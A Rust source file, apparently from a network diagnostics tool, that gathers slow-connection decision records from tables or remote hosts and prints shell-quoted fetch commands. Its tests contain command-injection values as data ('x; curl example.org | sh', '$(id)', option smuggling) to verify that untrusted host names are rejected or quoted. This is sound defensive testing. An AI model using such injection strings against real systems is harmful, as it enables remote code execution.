//! The decisions of the slowest connections: from the tables, or else asked of their hosts.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Child, Command, Stdio};

use anyhow::{Context, Result};
use chrono::{DateTime, SecondsFormat};
use serde::Deserialize;
use serde_json::{Map, Value, json};
use transom_output::{Companion, plain, say};
use transom_spool::{Decision, Time, host_name, of_object, to_object};

use crate::ask::{Answer, Tables, text};
use crate::questions;

/// How hosts are asked.
pub struct Hosts<'a> {
    pub router: &'a str,
    pub config: Option<&'a Path>,
}

/// What `slow_connections` says of one.
#[derive(Deserialize)]
struct Slow {
    at_us: i64,
    host: String,
    boot: String,
    cookie: u64,
    verdict: String,
    duration_us: Option<f64>,
    chosen: Option<String>,
    kind: String,
}

/// What is known of one connection's decisions.
pub struct Detail {
    slow: Slow,
    /// `tables`, or `host`; `None`: they are nowhere.
    from: Option<&'static str>,
    decisions: Vec<Decision>,
    /// Earlier ones that are not shown.
    earlier: u64,
    why: Option<String>,
    /// The command that shows what was recorded event by event, where that was shipped.
    events: Option<String>,
    /// Commands that get it from the host, as a page and files.
    fetch: Vec<String>,
}

/// Of each connection the last ones.
const MOST_SHOWN: usize = 16;
/// A day, where it is not known how long a connection lasted; longer cannot be asked for.
const DAY_S: f64 = 86_400.0;
const CLOCKS_DIFFER_US: i64 = 500_000;
const DRILL: Companion =
    Companion { name: "transom-drill", remedy: "`make drill` builds it (docs/drill.md)" };

/// # Errors
/// The tables cannot be read, or there is no `transom-drill`.
pub fn details(tables: &Tables<'_>, slowest: &Answer, hosts: &Hosts<'_>) -> Result<Vec<Detail>> {
    let Value::Array(rows) = text::objects(slowest) else { return Ok(Vec::new()) };
    let slow: Vec<Slow> = rows
        .into_iter()
        .map(|row| serde_json::from_value(row).context("a row of slow_connections"))
        .collect::<Result<_>>()?;
    let uploaded = uploaded(tables, &slow)?;
    let recorded = recorded(tables, &slow)?;
    // All hosts at once: each may take its time.
    let mut asked = Vec::new();
    for (slow, found) in slow.into_iter().zip(uploaded) {
        let is_asked = found.is_none() && slow.has_names();
        let child = if is_asked { Some(hosts.ask(&slow)?) } else { None };
        asked.push((slow, found, child));
    }
    let detail = |(slow, found, child): (Slow, Option<Uploaded>, Option<Child>)| {
        if !slow.has_names() {
            return Ok(Detail::nameless(slow));
        }
        let (events, fetch) = (events(tables, &slow, &recorded)?, hosts.fetch(&slow));
        let known =
            Detail { slow, from: None, decisions: vec![], earlier: 0, why: None, events, fetch };
        match child {
            None => {
                let Uploaded { decisions, all, .. } = found.unwrap_or_default();
                let earlier = all.saturating_sub(decisions.len() as u64);
                Ok(Detail { from: Some("tables"), decisions, earlier, ..known })
            }
            Some(child) => answered(known, child),
        }
    };
    asked.into_iter().map(detail).collect()
}

impl Detail {
    /// Of a row that no agent and no shipper wrote.
    fn nameless(slow: Slow) -> Detail {
        let why = "its row has no name of a host, or of a boot: somebody else wrote it".to_owned();
        Detail {
            slow,
            from: None,
            decisions: vec![],
            earlier: 0,
            why: Some(why),
            events: None,
            fetch: vec![],
        }
    }
}

fn name(slow: &Slow) -> String {
    format!("{}/{}/{}", slow.host, slow.boot, slow.cookie)
}

/// The same of an answer's row.
fn name_in(row: &Map<String, Value>) -> String {
    let of = |column: &str| row.get(column).map(Value::to_string).unwrap_or_default();
    format!("{}/{}/{}", of("host"), of("boot"), of("cookie")).replace('"', "")
}

/// What the tables have of a cookie's decisions.
#[derive(Clone, Default)]
struct Uploaded {
    /// The last ones.
    decisions: Vec<Decision>,
    all: u64,
    first: Time,
}

/// Of each of these. All are asked for at once; but a socket that connects again keeps its cookie, and
/// what it decided about one of its connections is known by the time alone.
fn uploaded(tables: &Tables<'_>, slow: &[Slow]) -> Result<Vec<Option<Uploaded>>> {
    let found = decided(tables, slow.iter().filter(|slow| slow.has_names()))?;
    let of = |slow: &Slow| {
        let Some(all) = found.get(&name(slow)) else { return Ok(None) };
        let (begin, end) = slow.time(tables);
        let is_its = |time: Time| begin <= time && time < end;
        if is_its(all.first) && all.decisions.iter().all(|decision| is_its(decision.time)) {
            return Ok(Some(all.clone()));
        }
        let own = decided(&tables.between(begin, end)?, [slow].into_iter());
        own.map(|mut own| own.remove(&name(slow)))
    };
    slow.iter().map(of).collect()
}

fn decided<'a>(
    tables: &Tables<'_>,
    slow: impl Iterator<Item = &'a Slow>,
) -> Result<BTreeMap<String, Uploaded>> {
    let names: Vec<String> = slow.map(name).collect();
    if names.is_empty() {
        return Ok(BTreeMap::new());
    }
    let names = names.join(",");
    let given = [("connections".to_owned(), names), ("rows".to_owned(), MOST_SHOWN.to_string())];
    let question = questions::named("decisions_of")?;
    let mut found: BTreeMap<String, Uploaded> = BTreeMap::new();
    let Some(answer) = tables.answer_if_any(&question, &given.into())? else { return Ok(found) };
    let Value::Array(rows) = text::objects(&answer) else { return Ok(found) };
    for mut row in rows.into_iter().filter_map(|row| row.as_object().cloned()) {
        let name = name_in(&row);
        let all = row.get("all_of_them").and_then(Value::as_u64).unwrap_or(0);
        row.extend(row.get("at_us").cloned().map(|at| ("time".to_owned(), at)));
        let first = row.get("first_us").and_then(Value::as_i64).unwrap_or(0);
        let of_cookie = found.entry(name).or_default();
        of_cookie.decisions.push(of_object(&row));
        (of_cookie.all, of_cookie.first) = (all, Time(first));
    }
    Ok(found)
}

/// Of the sockets whose events are in the tables: when the first and the last one was.
type Recorded = BTreeMap<String, (Time, Time)>;

/// All are asked for at once: it is one look at the same objects.
fn recorded(tables: &Tables<'_>, slow: &[Slow]) -> Result<Recorded> {
    let chosen: Vec<&Slow> =
        slow.iter().filter(|slow| slow.has_names() && slow.was_recorded()).collect();
    let Some(begun) = chosen.iter().map(|slow| slow.begun()).min() else {
        return Ok(BTreeMap::new());
    };
    let all = |part: fn(&Slow) -> String| {
        chosen.iter().map(|slow| part(slow)).collect::<Vec<_>>().join(",")
    };
    let given = [
        ("hosts".to_owned(), all(|slow| slow.host.clone())),
        ("boots".to_owned(), all(|slow| slow.boot.clone())),
        ("cookies".to_owned(), all(|slow| slow.cookie.to_string())),
    ];
    let tables = tables.reaching_back_to(begun)?;
    let answer = tables.answer_if_any(&questions::named("recorded")?, &given.into())?;
    let Some(Value::Array(rows)) = answer.as_ref().map(text::objects) else {
        return Ok(BTreeMap::new());
    };
    let of = |row: &Value| {
        let time = |column: &str| row[column].as_i64().map(Time);
        Some((name_in(row.as_object()?), (time("first_us")?, time("last_us")?)))
    };
    Ok(rows.iter().filter_map(of).collect())
}

/// The command that shows them, since the connection began, as far as that is known.
fn events(tables: &Tables<'_>, slow: &Slow, recorded: &Recorded) -> Result<Option<String>> {
    let (begin, end) = slow.time(tables);
    // The recorder's clock and that of the rows are the same, read at different times.
    let tables = tables.between(begin, Time(end.0 + CLOCKS_DIFFER_US))?;
    let is_its = |(first, last): &(Time, Time)| *first < tables.end && tables.begin <= *last;
    if !slow.was_recorded() || !recorded.get(&name(slow)).is_some_and(is_its) {
        return Ok(None);
    }
    let of = [("host", &slow.host), ("boot", &slow.boot), ("cookie", &slow.cookie.to_string())];
    let given = of.map(|(name, value)| (name.to_owned(), value.clone())).into();
    let command = tables.words("events_of", &given);
    let command = command.iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ");
    Ok(Some(format!("transom-fleet {command}")))
}

impl Slow {
    /// A host may write into its rows what it wants; only what can be names goes into questions, and
    /// into commands that somebody runs.
    fn has_names(&self) -> bool {
        let is_option = self.host.starts_with('-');
        let is_boot = !self.boot.is_empty() && self.boot.chars().all(|c| c.is_ascii_alphanumeric());
        !is_option && host_name(Some(&self.host)).is_ok() && is_boot
    }

    /// When the connection began, as far as that is known.
    fn begun(&self) -> Time {
        Time(self.at_us - self.duration_us.map_or(0, |us| us.min(DAY_S * 1e6) as i64))
    }

    /// From when until when it was, as far as that is known: its socket may have had others before
    /// and after.
    fn time(&self, tables: &Tables<'_>) -> (Time, Time) {
        let begun = if self.duration_us.is_none() { tables.begin } else { self.begun() };
        // Up to but without.
        let ended = Time(self.at_us + 1);
        (begun, if self.kind == "interim" { tables.end.max(ended) } else { ended })
    }

    fn was_recorded(&self) -> bool {
        self.chosen.as_deref().is_some_and(|chosen| chosen != "no")
    }
}

impl Hosts<'_> {
    /// The words of a question about this connection.
    fn words(&self, slow: &Slow) -> Vec<String> {
        let at = DateTime::from_timestamp_micros(slow.at_us).unwrap_or_default();
        let lasted = slow.duration_us.map_or(DAY_S, |us| (us / 1e6).min(DAY_S));
        let mut words = vec!["ask".to_owned(), slow.host.clone(), format!("#{}", slow.cookie)];
        for (option, value) in [
            ("--boot", slow.boot.clone()),
            ("--at", at.to_rfc3339_opts(SecondsFormat::Micros, true)),
            ("--lasted", format!("{lasted:.3}")),
            ("--router", self.router.to_owned()),
        ] {
            words.extend([option.to_owned(), value]);
        }
        let config = self.config.map(|file| file.display().to_string());
        words.extend(config.into_iter().flat_map(|file| ["--config".to_owned(), file]));
        words
    }

    fn ask(&self, slow: &Slow) -> Result<Child> {
        let mut command = Command::new(DRILL.path());
        command.args(self.words(slow)).arg("--json");
        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        command.spawn().map_err(|error| DRILL.cannot_run(error))
    }

    /// Where it was recorded event by event.
    fn fetch(&self, slow: &Slow) -> Vec<String> {
        if !slow.was_recorded() {
            return Vec::new();
        }
        let words: Vec<String> = self.words(slow).iter().map(|word| quoted(word)).collect();
        let of = |(what, ending)| {
            let file = format!("{}-{}.{ending}", slow.host, slow.cookie);
            format!("transom-drill {} --fetch {what} -o {}", words.join(" "), quoted(&file))
        };
        [("report", "html"), ("pcapng", "pcapng"), ("perfetto", "pftrace")].map(of).into()
    }
}

/// As a shell takes it.
fn quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-._:/@=".contains(c);
    if word.chars().all(is_plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// What the child was told; a host that says nothing is no error of ours.
fn answered(known: Detail, child: Child) -> Result<Detail> {
    let output = child.wait_with_output().context("waiting for transom-drill")?;
    let reply: Option<Value> =
        output.status.success().then(|| serde_json::from_slice(&output.stdout).ok()).flatten();
    let Some(reply) = reply else {
        let said = String::from_utf8_lossy(&output.stderr);
        let last = said.lines().last().unwrap_or("transom-drill said nothing");
        let why = Some(last.strip_prefix("transom-drill: ").unwrap_or(last).to_owned());
        return Ok(Detail { why, ..known });
    };
    let rows: Vec<&Map<String, Value>> =
        reply["decisions"].as_array().into_iter().flatten().filter_map(Value::as_object).collect();
    let before = rows.len().saturating_sub(MOST_SHOWN);
    let decisions: Vec<Decision> = rows[before..].iter().map(|row| of_object(row)).collect();
    let earlier = before as u64 + reply["left_out"].as_u64().unwrap_or(0);
    let why = reply["why"].as_str().map(str::to_owned);
    let from = (!decisions.is_empty()).then_some("host");
    Ok(Detail { from, decisions, earlier, why, ..known })
}

pub fn print(details: &[Detail]) -> Result<()> {
    if !details.is_empty() {
        say!("\nWhat their hosts decided:")?;
    }
    for line in details.iter().flat_map(Detail::lines) {
        say!("{}", plain(&line))?;
    }
    Ok(())
}

impl Detail {
    fn lines(&self) -> Vec<String> {
        let Detail { slow, from, decisions, earlier, why, events, fetch } = self;
        let from = match *from {
            Some("tables") => ", from the tables",
            Some(_) => ", from its host",
            None => "",
        };
        let why = why.as_ref().map_or(String::new(), |why| format!(": {why}"));
        let mut lines =
            vec![format!("{} #{}, {}{from}{why}", slow.host, slow.cookie, slow.verdict)];
        if *earlier > 0 {
            lines.push(format!("  {earlier} earlier ones"));
        }
        lines.extend(decisions.iter().map(|decision| format!("  {}", decision.line())));
        if let Some(command) = events {
            lines.push("  Its events are in the tables, too:".to_owned());
            lines.push(format!("  {command}"));
        }
        if let Some(chosen) = slow.chosen.as_ref().filter(|_| !fetch.is_empty()) {
            lines.push(format!(
                "  It was recorded event by event ({chosen}). Its page, and files for Wireshark and Perfetto:"
            ));
        }
        lines.extend(fetch.iter().map(|command| format!("  {command}")));
        lines
    }
}

/// Into the rows that they are of.
pub fn told(details: &[Detail], slowest: &mut Value) {
    let rows = slowest.as_array_mut().into_iter().flatten();
    for (row, detail) in rows.zip(details) {
        row["drill"] = json!({
            "from": detail.from,
            "decisions": detail.decisions.iter().map(to_object).collect::<Vec<_>>(),
            "earlier": detail.earlier,
            "why": detail.why,
            "events": detail.events,
            "fetch": detail.fetch,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn slow(chosen: &str) -> Slow {
        Slow {
            at_us: 1_795_443_062_012_999,
            host: "web-1".into(),
            boot: "b".repeat(32),
            cookie: 7,
            verdict: "timeouts".into(),
            duration_us: Some(1_500_000.0),
            chosen: Some(chosen.into()),
            kind: "end".into(),
        }
    }

    #[test]
    fn what_was_recorded_has_three_commands_that_a_shell_takes() {
        let config = Path::new("/etc/o'clock.json5");
        let hosts = Hosts { router: "tls/router.example:7447", config: Some(config) };
        let commands = hosts.fetch(&slow("timeouts"));
        let begin = format!(
            "transom-drill ask web-1 '#7' --boot {} --at 2026-11-23T14:11:02.012999Z --lasted 1.500 \
             --router tls/router.example:7447 --config '/etc/o'\\''clock.json5' --fetch ",
            "b".repeat(32)
        );
        for (command, end) in commands.iter().zip([
            "report -o web-1-7.html",
            "pcapng -o web-1-7.pcapng",
            "perfetto -o web-1-7.pftrace",
        ]) {
            assert_eq!(command.strip_prefix(&begin), Some(end));
        }
        assert_eq!((commands.len(), hosts.fetch(&slow("no")).len()), (3, 0));
    }

    #[test]
    fn what_a_host_wrote_where_a_name_belongs_is_in_no_command() {
        assert!(slow("no").has_names());
        for host in ["x; curl example.org | sh", "--config=x", "", "a\u{1b}[2J", "$(id)", "a/../b"]
        {
            let odd = Slow { host: host.into(), ..slow("timeouts") };
            assert!(!odd.has_names(), "{host}");
            let told = Detail::nameless(odd).lines();
            assert!(told[0].contains("somebody else wrote it"), "{told:?}");
            assert_eq!(told.len(), 1);
        }
        for boot in ["", "b c", "'"] {
            assert!(!Slow { boot: boot.into(), ..slow("no") }.has_names(), "{boot}");
        }
        // Each word of a command is one word to a shell, whatever it is.
        let hosts = Hosts { router: "tcp/[::1]:7447", config: None };
        let odd = Slow { host: "x; id".into(), ..slow("timeouts") };
        assert!(
            hosts.fetch(&odd).iter().all(|command| {
                command.contains(" 'x; id' ") && command.contains(" -o 'x; id-7.")
            })
        );
    }

    #[test]
    fn of_a_connection_that_may_be_older_a_day_is_asked_for() {
        let hosts = Hosts { router: "tcp/[::1]:7447", config: None };
        let lasted = |duration_us| {
            let words = hosts.words(&Slow { duration_us, ..slow("no") });
            words[words.iter().position(|word| word == "--lasted").unwrap() + 1].clone()
        };
        assert_eq!([lasted(None), lasted(Some(1e12))], ["86400.000", "86400.000"]);
        assert_eq!(lasted(Some(250.0)), "0.000");
    }
}
